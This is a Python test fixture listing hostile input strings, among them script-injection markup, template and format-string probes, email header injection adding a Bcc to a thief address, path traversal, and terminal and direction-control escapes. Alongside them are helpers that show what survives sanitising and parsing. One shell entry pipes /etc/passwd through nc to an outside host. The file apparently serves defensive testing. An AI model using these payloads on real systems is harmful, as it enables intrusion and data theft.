"""Texts that somebody would type, or put into S3, to be acted upon instead of being read."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser

TEXTS: dict[str, str] = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "markup that ends what is around it": '"></title></textarea></style></pre>--><iframe src=//example.com>',
    "an attribute": "\" onmouseover='alert(1)' x=\"",
    "an entity": "&lt;script&gt;&#x3c;b&#x3e;",
    "a template": "{{ 7*7 }}{% for x in [1] %}{{ conn.smtp_default.password }}{% endfor %}{# gone #}",
    "a format": "%(password)s {0.__class__} ${HOME} %s%n",
    "a header": "x\r\nBcc: thief@example.org\r\nX-Priority: 1\r\n\r\nanother body",
    "a header with bare line feeds": "x\nBcc: thief@example.org\n\nanother body",
    "an encoded word": "=?utf-8?q?a=0D=0ABcc:_thief@example.org?=",
    "a second address": "a@example.com, thief@example.org",
    "a shell's substitution": "$(touch /tmp/hostile) `touch /tmp/hostile`",
    "a shell's next command": "x; touch /tmp/hostile && cat /etc/passwd | nc example.com 1 > /tmp/hostile",
    "a shell's quotes": "' ; touch /tmp/hostile #\" ; touch /tmp/hostile #\\",
    "an option": "--conf={} -e",
    "the folder above": "../../decisions/00000001",
    "the folder above, escaped": "..%2f..%2fchampion.json",
    "a folder": "checkpoints/champion.json",
    "an absolute path": "/etc/passwd",
    "a bucket": "s3://another-bucket/checkpoints",
    "an address": "javascript:alert(1)//https://example.com",
    "a null": "a\0b",
    "a terminal's escapes": "\x1b]0;mine\x07\x1b[2J\x1b[31m\x9b2J",
    "a backspace": "good\x08\x08\x08\x08bad",
    "direction": "\u202egnp.exe\u2066\u200f\u061c",
    "a zero width": "champion\u200b\u200d\ufeff",
    "a line separator": "first\u2028Bcc: thief@example.org\u2029second\x85third",
    "rich's markup": "[bold red]x[/bold red][link=https://example.com]y[/link]",
    "very long": "y" * 3000,
}


def shown(text: str) -> str:
    """What is left for people to read: the printable characters, in their order."""
    return "".join("".join(c for c in text if c.isprintable()).split())


class Page(HTMLParser):
    """Which elements and attributes a browser would see, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: Counter[str] = Counter()
        self.attributes: Counter[str] = Counter()
        self.addresses: set[str] = set()
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        self.attributes.update(name for name, _ in attrs)
        self.addresses |= {value or "" for name, value in attrs if name in {"href", "src", "action"}}

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return "".join("".join(self.words).split())
